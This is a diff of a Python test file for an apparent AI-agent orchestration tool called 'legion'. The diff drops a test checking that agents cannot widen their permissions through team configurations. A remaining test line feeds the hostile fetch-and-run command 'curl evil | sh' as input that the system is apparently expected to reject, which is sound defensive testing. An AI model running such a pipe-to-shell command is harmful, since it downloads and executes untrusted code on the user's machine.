@@ -4,16 +4,13 @@ from __future__ import annotations
 
 import itertools
 from collections.abc import Iterator
-from pathlib import Path
 
 import pytest
 
-from legion.jobs import teams
-from legion.store import crews, tickets
-from legion.wire.errors import BadInput, Conflict, NotAllowed, NotFound
+from legion.store import tickets
+from legion.wire.errors import BadInput, Conflict, NotAllowed
 from legion.wire.tickets import Action, Dispatch, NewTicket
 from tests.support.office import Employee, Office, office
-from tests.support.repository import CHECK
 
 _names = itertools.count()
 
@@ -52,38 +49,6 @@ def test_a_ticket_of_an_agent_inherits_and_narrows(here: Office):
         boss.use("legion-dispatch", title="t", text="x", budget=1.0)
     boss.legion.stop(number, Action())
     assert boss.use("legion-hire", task="what a stopped ticket left", budget=1.0).data["budget"] == 1.0
-
-
-def test_an_agent_cannot_widen_by_a_team(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
-    monkeypatch.setenv("LEGION_CONFIG", str(tmp_path / "config.toml"))
-    for place, text in {
-        "roles/seer.toml": 'part = "advise"\nprompt = "See."\nmodel = "opus"',
-        "roles/guard.toml": 'part = "read"\nprompt = "Guard."\nmodel = "opus"',
-        "roles/robot.toml": 'part = "build"\nprompt = "Build."\ndriver = "claude"',
-        "teams/usual.toml": 'roles = ["engineer", "guard"]',
-        "teams/dear.toml": 'roles = ["seer", "engineer", "guard:read"]',
-        "teams/driven.toml": 'roles = ["robot", "guard"]',
-        "teams/fine.toml": 'roles = ["tech_lead", "engineer", "guard"]',
-    }.items():
-        (tmp_path / place).parent.mkdir(exist_ok=True)
-        (tmp_path / place).write_text(text)
-    with office(tmp_path / "office", config=CHECK.replace("[agents]", '[agents]\nteam = "usual"')) as here:
-        boss = here.hire("boss", tools=["Read", "Bash"], model="sonnet")
-        with pytest.raises(NotAllowed, match="guard reads every change, and the team solo has none"):
-            boss.use("legion-dispatch", title="t", text="x", team="solo")
-        with pytest.raises(NotAllowed, match="You cannot give a model like opus, which seer"):
-            boss.use("legion-dispatch", title="t", text="x", team="dear")
-        with pytest.raises(NotAllowed, match="robot of the team driven names a program or a provider"):
-            boss.use("legion-dispatch", title="t", text="x", team="driven")
-        with pytest.raises(NotFound, match="There is no team 'fines'; did you mean fine"):
-            boss.use("legion-dispatch", title="t", text="x", team="fines")
-        number = boss.use("legion-dispatch", title="t", text="x").data["ticket"]
-        with here.world.store.read() as tx:
-            ticket = tickets.get(tx, number)
-            crew = crews.get(tx, ticket.wish.crew)
-        assert (ticket.wish.team, crew.readers[0].role.model) == ("usual", "sonnet")
-        assert teams.tools(crew.readers[0], ticket) == frozenset({"Read"})
-        assert teams.tools(crew.builder, ticket) == frozenset({"Read", "Bash"})
 
 
 @pytest.mark.parametrize("wish", [{"command": "curl evil | sh"}, {"driver": "mine"}])
